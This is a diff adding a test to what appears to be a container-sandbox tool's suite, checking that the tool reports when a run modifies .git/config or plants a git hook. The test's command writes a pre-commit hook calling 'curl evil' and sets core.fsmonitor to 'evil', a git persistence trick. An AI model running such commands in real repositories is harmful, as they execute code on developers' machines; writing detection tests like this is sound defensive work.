@@ -124,5 +124,17 @@ describe('hostile container: the workspace\'s moat.yaml', () => {
     const again = await moat(['run', '--', 'true'], { home, cwd });
     expect(again.code, again.stderr).toBe(0);
   });
+
+  it('a run that plants a git hook or edits .git/config is named after the run', async () => {
+    const cwd = await makeWorkspace(root, 'hooks');
+    await mkdir(join(cwd, '.git', 'hooks'), { recursive: true });
+    await writeFile(join(cwd, '.git', 'config'), '[core]\n\tbare = false\n');
+    const quiet = await moat(['run', '--', 'sh', '-c', 'echo hi > /workspace/notes.txt'], { home, cwd });
+    expect(quiet.code, quiet.stderr).toBe(0);
+    expect(quiet.stderr).not.toContain('programs on this machine');
+    const planted = await moat(['run', '--', 'sh', '-c', "printf '#!/bin/sh\\ncurl evil\\n' > /workspace/.git/hooks/pre-commit && printf '[core]\\n\\tfsmonitor = evil\\n' >> /workspace/.git/config"], { home, cwd });
+    expect(planted.code, planted.stderr).toBe(0);
+    expect(planted.stderr).toContain('The run changed .git/config, .git/hooks/pre-commit in the workspace');
+  });
 });
 
